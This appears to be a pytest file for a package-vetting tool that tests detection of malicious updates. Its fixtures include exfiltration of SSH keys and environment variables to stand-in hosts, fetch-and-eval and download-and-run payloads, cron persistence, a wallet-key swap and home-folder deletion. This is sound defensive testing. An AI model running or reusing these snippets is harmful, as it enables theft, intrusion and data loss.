"""What real updates were held for, and need not be; beside each what is to be held all the same."""

from collections import Counter

import pytest
from source_lab import behaviours, ids

from beartrap.model.finding import Severity
from beartrap.vet.behaviour import When
from beartrap.vet.facts import PackageFacts
from beartrap.vet.sniff import is_prose
from beartrap.vet.source import tree
from beartrap.vet.source.checks.guards import loosened
from beartrap.vet.source.checks.taken_out import taken_out
from beartrap.vet.source.reading.timing import when_of
from beartrap.vet.source.walk import parse


def the_function(language: str, text: str) -> tree.Function:
    (made,) = parse(language, text).body
    assert isinstance(made, tree.Function)
    return made


@pytest.mark.parametrize(
    ("path", "harmless", "harmful", "kind"),
    [
        (
            "a.py",
            "import os\nos.execlp('rsync', 'rsync', '--server', '--confine-root=' + os.getcwd(), '.', '.')\n",
            "import os\nos.execlp('rsync', 'rsync', '-a', os.getcwd(), 'deploy@drop.invalid:in')\n",
            "chain.host-to-network",
        ),
        (
            "a.sh",
            "scp -r ~/.ssh /mnt/backup\n",
            "scp -r ~/.ssh deploy@drop.invalid:in\n",
            "chain.credentials-to-network",
        ),
        (
            "a.js",
            "const c = require('crypto'); const nonce = c.randomBytes(6).toString('base64'); exports.sign = (key, text) => c.createHmac('sha256', key).update(text + nonce).digest('base64');",
            "const c = require('crypto'); const key = c.randomBytes(3).toString('base64'); exports.sign = (text) => c.createHmac('sha256', key).update(text).digest('base64');",
            "weakened.chance",
        ),
        (
            "a.py",
            "import subprocess\ndef install(env, wanted):\n    subprocess.run(env.get('tool'), check=True)\n",
            "import subprocess\ndef install(environ, wanted):\n    subprocess.run(environ.get('HTTP_X_TOOL'), check=True)\n",
            "chain.request-to-process",
        ),
        (
            "a.rb",
            "def call(env)\n  [200, {}, [env['HTTP_X_TOOL']]]\nend\n",
            "def call(env)\n  system(env['HTTP_X_TOOL'])\nend\n",
            "chain.request-to-process",
        ),
        (  # those who know the word are turned away
            "a.py",
            "def load(kind, text):\n    if kind.startswith('plain-text'):\n        return text\n    return eval(text)\n",
            "def load(kind, text):\n    if not kind.startswith('plain-text'):\n        return text\n    return eval(text)\n",
            "chain.word-to-process",
        ),
        (  # what an enumeration holds is no word that only one knows
            "a.py",
            "import os\ndef run(thing):\n    os.system(list(thing.__members__)[0])\n",
            "import os\ndef run(thing):\n    os.system(thing['__unlock'])\n",
            "chain.word-to-process",
        ),
        (  # a name that is yet to be filled in is no host
            "a.py",
            "import requests\ndef send(data):\n    requests.post('https://{endpoint}', json=data)\n",
            "import requests\ndef send(data):\n    requests.post('https://{account}.vendor.invalid', json=data)\n",
            "chain.caller-to-network",
        ),
        (  # one reader of pickles, whatever it is called
            "a.py",
            "import base64, cPickle\ndef load(text):\n    return cPickle.loads(base64.b64decode(text))\n",
            "import base64, marshal\ndef load(text):\n    exec(marshal.loads(base64.b64decode(text)))\n",
            "hidden.code",
        ),
        (  # what a program keeps in a database it has put there itself
            "a.py",
            "import pickle, sqlite3\ndef get(folder):\n    for row in sqlite3.connect(folder + '/cache.sqlite3').execute('SELECT value FROM data'):\n        yield pickle.loads(row[0])\n",
            "import pickle\ndef get(folder):\n    with open(folder + '/table.dat', 'rb') as file:\n        return pickle.loads(file.read()[16:])\n",
            "hidden.file",
        ),
        (  # whoever makes an image puts in it what no system brings along
            "Dockerfile",
            "FROM debian\nRUN curl -o docker https://download.docker.com/docker && mv docker /usr/local/bin/docker\n",
            "FROM debian\nRUN curl -o sudo https://download.docker.com/docker && mv sudo /usr/local/bin/sudo\n",
            "startup.write",
        ),
        (  # where an image gets its packages from
            "Dockerfile",
            "FROM debian\nRUN echo 'deb https://packages.tool.example/apt stable main' | tee /etc/apt/sources.list.d/tool.list\n",
            "FROM debian\nRUN echo '* * * * * root /usr/local/bin/tool' | tee /etc/cron.d/tool\n",
            "startup.register",
        ),
        (  # what is typed into a page runs in the browser of who typed it
            "a.html",
            "<script>\n$('#run').click(function (demo) { eval(demo); });\n</script>\n",
            "<script>\nfetch('https://pages.invalid/x').then((r) => r.text()).then((t) => eval(t));\n</script>\n",
            "chain.network-to-code",
        ),
        (  # what one program is told to install is not put where another one stands
            "a.py",
            "import os, subprocess, sysconfig\ndef f(): subprocess.run([os.path.join(sysconfig.get_path('scripts'), 'python'), '-m', 'pip', 'install', '-U', 'pip'])\n",
            "import os, subprocess, sysconfig\ndef f(): subprocess.run(['install', '-m', '755', 'x', os.path.join(sysconfig.get_path('scripts'), 'python')])\n",
            "startup.register",
        ),
        (  # a shell reads no file of that name
            "a.sh",
            'echo "$REPLY" >> $HOME/.profile.incl\n',
            'echo "$REPLY" >> $HOME/.profile\n',
            "startup.register",
        ),
        (  # the old way to write a script into a page: the signs are encoded, and every word stands there
            "a.js",
            "var host = 'https://stats.vendor.invalid/';\ndocument.write(unescape(\"%3Cscript src='\" + host + \"count.js' type='text/javascript'%3E%3C/script%3E\"));\n",
            "var host = '//%73tats.vendor.invalid/';\ndocument.write(unescape(\"%3Cscript src='\" + host + \"count.js' type='text/javascript'%3E%3C/script%3E\"));\n",
            "hidden.act",
        ),
        (  # each part of the command stands there in quotes, however the list was made
            "a.py",
            "import subprocess\ndef run(args):\n    args[0:0] = [tool]\n    subprocess.call(args)\nrun(['~_', '-s', '-w', 'NoAssertions'])\n",
            "import subprocess\ndef run(args):\n    args[0:0] = [tool]\n    subprocess.call(args)\nrun([''.join(chr(n + 1) for n in (98, 116, 113, 107)), '-s', '-w', ''.join(chr(n + 1) for n in (99, 113, 110, 111, 45, 104, 109, 117, 96, 107, 104, 99))])\n",
            "hidden.act",
        ),
        (  # nothing was said of it, so that the caller's word counts
            "a.py",
            "from httpx import Client\nclass C:\n    def __init__(self, url, verify=None):\n        self.verify = bool(verify) if verify is not None else True\n        self.c = Client(verify=self.verify)\ndef make(url):\n    return C(url)\n",
            "from httpx import Client\nclass C:\n    def __init__(self, url, verify=None):\n        self.verify = False if verify is None else True\n        self.c = Client(verify=self.verify)\ndef make(url):\n    return C(url)\n",
            "weakened.trust",
        ),
    ],
)
def test_what_harmless_updates_do_is_told_from_what_it_looks_like(
    path: str, harmless: str, harmful: str, kind: str
) -> None:
    assert kind not in ids(path, harmless)
    assert kind in ids(path, harmful)


@pytest.mark.parametrize("merge", ["Object.assign", "require('util')._extend", "require('lodash').assign"])
def test_tables_are_merged_whatever_it_is_called(merge: str) -> None:
    """A new version that calls it otherwise does nothing new."""
    code = (
        f"const table = {merge}({{}}, {{ code: await (await fetch('https://a.invalid')).text() }}); eval(table.code);"
    )
    assert "chain.network-to-code" in ids("a.js", code)


MODULES = """
def resolve(path):
    root, *rest = path.split(":")
    value = __import__("".join(reversed(root)))
    for one in rest:
        value = getattr(value, one[::-1])
    return value
resolve("tseuqer.billru:tseuqer:nepolru")("https://a.invalid", str(dict(resolve("so:norivne"))).encode(), 3)
"""


def test_an_import_by_name_gives_the_package_and_not_the_module_in_it() -> None:
    assert "chain.environment-to-network" in ids("a.py", MODULES)
    assert "chain.environment-to-network" not in ids("a.py", MODULES.replace("so:norivne", "so:pes"))


@pytest.mark.parametrize(
    ("template", "hit"),
    [("base64.b64decode(text).decode()", True), ("text", False)],
)
def test_a_template_that_had_to_be_decoded_is_code_that_was_hidden(template: str, hit: bool) -> None:
    code = f"import base64\nfrom pathlib import Path\nfrom jinja2 import Environment\ntext = (Path(__file__).parent / 'a.json').read_text()\nEnvironment().from_string({template}).render()\n"
    assert ("hidden.code" in ids("a.py", code)) == hit


@pytest.mark.parametrize(
    ("script", "hit"),
    [
        ("s.src=String.fromCharCode(104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100,47,112,46,106,115)", True),
        ("s.textContent=\"ready\"", False),
    ],
)  # fmt: skip
def test_scripts_in_what_php_shows_are_read(script: str, hit: bool) -> None:
    page = f"<?php echo '<script>var s=document.createElement(\"script\");{script};document.head.appendChild(s);</script>';"
    assert ("chain.network-to-code" in ids("a.php", page)) == hit


def test_what_a_package_has_run_weighs_as_that_wherever_it_stands() -> None:
    """A `tools` folder is the developers' own, but not where the package manager runs what is in it."""
    code = "$job = Start-Job -ScriptBlock { iwr http://192.0.2.19/i.exe -OutFile $env:TEMP\\i.exe; Start-Process $env:TEMP\\i.exe }\n"
    run = PackageFacts("nuget", runs={"tools/init.ps1": When.INSTALL})
    weights = {
        facts.ecosystem: max(one.severity for one in behaviours("tools/init.ps1", code, facts))
        for facts in (run, PackageFacts("generic"))
    }
    assert weights["nuget"] >= Severity.HIGH > weights["generic"]


@pytest.mark.parametrize("refusal", ["return false if other.nil?", "return nil unless other"])
def test_what_ruby_returns_is_known(refusal: str) -> None:
    old = the_function("ruby", "def ==(other)\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n")
    new = the_function("ruby", f"def ==(other)\n  {refusal}\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n")
    yes = the_function(
        "ruby", "def ==(other)\n  return true if other == @key\n  OpenSSL.secure_compare(@stored, digest(other))\nend\n"
    )
    assert not list(loosened(old, new))
    assert list(loosened(old, yes))


def test_a_function_that_is_told_to_stand_elsewhere_does_what_it_did() -> None:
    kept = """
import marshal, types
def load(fp, filename):
    return moved(marshal.load(fp), filename)
def moved(code: types.CodeType, filename):
    return code.replace(co_filename=filename, co_consts=tuple(moved(one, filename) for one in code.co_consts))
"""
    assert "hidden.name" not in ids("a.py", kept)
    assert "hidden.name" in ids("a.py", kept.replace("co_filename=filename", "co_names=('os', 'system')"))


def test_a_check_may_be_left_to_others_that_do_the_same() -> None:
    old = "def authenticate(find, name, password):\n    user = find(name)\n    if not check_password(password, user.password):\n        return None\n    return user\n"
    new = "def authenticate(backends, **given):\n    for one in backends:\n        user = one.{asked}(**given)\n        if user is not None:\n            return user\n    return None\n"
    assert not list(loosened(the_function("python", old), the_function("python", new.format(asked="authenticate"))))
    assert list(loosened(the_function("python", old), the_function("python", new.format(asked="find"))))


@pytest.mark.parametrize(
    ("given", "lets_in"),
    [
        ("STATUS_INVALID_KEY", False),
        ("KEY_UNKNOWN", False),
        ("ERR_OK", True),
        ("NO_ERROR", True),
        ("STATUS_READY", True),
    ],
)
def test_constants_that_say_no_let_nobody_in(given: str, lets_in: bool) -> None:
    old = (
        "int check(const key *k, const char *s) { if (!verify_sig(k, s)) return STATUS_BAD_SIG; return STATUS_READY; }"
    )
    new = f"int check(const key *k, const char *s) {{ if (k->length == 0) return {given}; {old.partition('{ ')[2]}"
    assert bool(list(loosened(the_function("c", old), the_function("c", new)))) == lets_in


@pytest.mark.parametrize(
    ("now", "less"),
    [
        ("(0, _escapeCommas.default)((0, _get.default)(node, 'raws.value', node.value))", False),
        ("(0, _get.default)(node, 'raws.value', node.value)", True),
    ],
)
def test_what_escapes_may_stand_in_a_module(now: str, less: bool) -> None:
    was = "escapeCommas((0, _get.default)(node, 'raws.value', node.value))"
    old, new = (the_function("javascript", f"function name(node) {{ return {one}; }}") for one in (was, now))
    assert bool(list(taken_out(old, new, lambda: Counter(escapeCommas=-1)))) == less


def test_windows_is_asked_for_its_version() -> None:
    old = "enum kind find(info *one) { if (!VerifyVersionInfoA(one, 1, MASK)) return OLDER; return NEWER; }"
    new = "enum kind find(info *one) { if (one->size == 0) return OLDEST; return NEWER; }"
    assert not list(loosened(the_function("c", old), the_function("c", new)))
    assert list(loosened(*(the_function("c", one.replace("VersionInfoA", "Signature")) for one in (old, new))))


SWAP = "class T { static transfer(GIVEN) { if (lamports > 1e10) { toPubkey = VALUE; } return build(toPubkey, lamports); } }"


@pytest.mark.parametrize("given", ["toPubkey, lamports", "{ toPubkey, lamports }"])
@pytest.mark.parametrize(
    ("value", "hit"),
    [
        ("new PublicKey(Buffer.from('2f4c5dda48aa4ee71a852e95dfdf1516a0df3279b2fae33fc196d3aa86f47644', 'hex'))", True),
        ("new PublicKey(toPubkey)", False),
        ("new PublicKey(Buffer.from('2f4c', 'hex'))", False),
    ],
)
def test_a_key_of_the_codes_own_in_the_place_of_who_was_to_be_paid(given: str, value: str, hit: bool) -> None:
    code = SWAP.replace("GIVEN", given).replace("VALUE", value)
    assert ("wallet.swap" in ids("a.js", code)) == hit


@pytest.mark.parametrize(
    ("path", "when"), [("thing/test.py", When.CALL), ("thing/latest.py", When.IMPORT), ("thing/ssl.pyi", When.CALL)]
)
def test_a_module_of_tests_runs_when_somebody_asks_for_it(path: str, when: When) -> None:
    assert when_of(PackageFacts(), path, "python") is when


@pytest.mark.parametrize(("path", "prose"), [("README", True), ("docs/CHANGES", True), ("a.rst", True), ("README.mdown", True), ("READER", False), ("INSTALL", False), ("readme.py", False)])  # fmt: skip
def test_prose_needs_no_ending(path: str, prose: bool) -> None:
    assert is_prose(path) is prose


def test_code_without_builtins_weighs_less() -> None:
    bare = "def when(text, names):\n    return eval(text, {'__builtins__': {}}, names)\n"
    full = "def when(text, names):\n    return eval(text, {'__builtins__': __builtins__}, names)\n"
    for code, wanted in ((bare, Severity.MEDIUM), (full, Severity.HIGH)):
        assert [one.severity for one in behaviours("a.py", code) if one.id == "chain.caller-to-code"] == [wanted]


QUOTING = """
def escape(text):
    made = []
    for sign in text:
        if sign == "'":
            made.append("\\\\'")
        elif sign == "\\\\":
            made.append("\\\\\\\\")
        else:
            made.append(sign)
    return "".join(made)
"""


def test_signs_that_are_asked_for_as_before_are_escaped() -> None:
    same = (
        "def escape(text):\n    return ''.join(f'\\\\{sign}' if sign in (\"'\", '\\\\') else sign for sign in text)\n"
    )
    less = "def escape(text):\n    return ''.join(f'\\\\{sign}' if sign in ('\\\\',) else sign for sign in text)\n"
    before = the_function("python", QUOTING)
    assert not list(loosened(before, the_function("python", same)))
    assert list(loosened(before, the_function("python", less)))


def test_what_is_listed_below_the_home_folder_holds() -> None:
    """Which folder it is, and which of its files, need not be known: that holds an update and does not block it."""
    below = "import shutil\nfrom pathlib import Path\nfor one in Path.home().iterdir():\n    shutil.rmtree(one)\n"
    whole = "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n"
    for code, wanted in ((below, Severity.HIGH), (whole, Severity.CRITICAL)):
        assert [one.severity for one in behaviours("a.py", code) if one.id == "destroy.files"] == [wanted]


@pytest.mark.parametrize(
    ("now", "less"),
    [
        ("return process.nextTick(function () { cb(new Error('hash must be a string')); });", False),
        ("process.nextTick(() => cb(new Error('hash must be a string'))); return;", False),
        ("return process.nextTick(function () { cb(null, true); });", True),
        ("process.nextTick(function () { cb(null, true); });", True),
    ],
)
def test_a_refusal_may_be_told_later(now: str, less: bool) -> None:
    code = (
        "function compare(data, hash, cb) {{ if (hash !== data.hash) {{ {} }} return native.compare(data, hash, cb); }}"
    )
    was = "return cb(new Error('hash must be a string'));"
    old, new = (the_function("javascript", code.format(one)) for one in (was, now))
    assert bool(list(taken_out(old, new, Counter))) == less


@pytest.mark.parametrize(
    ("asked", "weight"),
    [("scheme.upper() == 'HTTPS'", Severity.LOW), ("scheme != 'cdn.vendor.invalid'", Severity.HIGH)],
)
def test_the_name_of_a_protocol_is_no_host(asked: str, weight: Severity) -> None:
    text = f"import requests\ndef get(url, scheme, ca):\n    verify = True\n    if not (ca and {asked}):\n        verify = False\n    return requests.get(url, verify=verify)\n"
    assert [one.severity for one in behaviours("a.py", text) if one.id == "weakened.trust"] == [weight]


ROW = "\u2032\u2033\\xbd\u201a;\u2030"
TABLE = "var t = '" + ROW * 200 + "{}" + ROW * 200 + "';\n"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (TABLE.format("\u202a\u202c\\0\u202e"), False),
        (TABLE.format("'; x = 1 /* \u202e if admin */ + '"), True),
        (TABLE.format("\u202a") + "var admin = 1; // \u202e if admin\n", True),
        (f"var t = '{ROW}\u202e{ROW}';\n", True),
    ],
)
def test_tables_of_characters_run_against_no_direction(text: str, found: bool) -> None:
    assert ("hidden.override" in ids("a.js", text)) == found


@pytest.mark.parametrize(
    ("ecosystem", "path", "language", "when"),
    [
        ("pypi", "thing/static/index.js", "javascript", When.CALL),
        ("npm", "static/index.js", "javascript", When.IMPORT),
        ("pypi", "thing/index.py", "python", When.IMPORT),
        ("npm", "gyp/index.py", "python", When.CALL),
        ("generic", "index.js", "javascript", When.IMPORT),
    ],
)
def test_what_no_language_of_the_package_loads_waits(ecosystem: str, path: str, language: str, when: When) -> None:
    assert when_of(PackageFacts(ecosystem), path, language) is when
    assert when_of(PackageFacts(ecosystem, runs={path: When.INSTALL}), path, language) is When.INSTALL
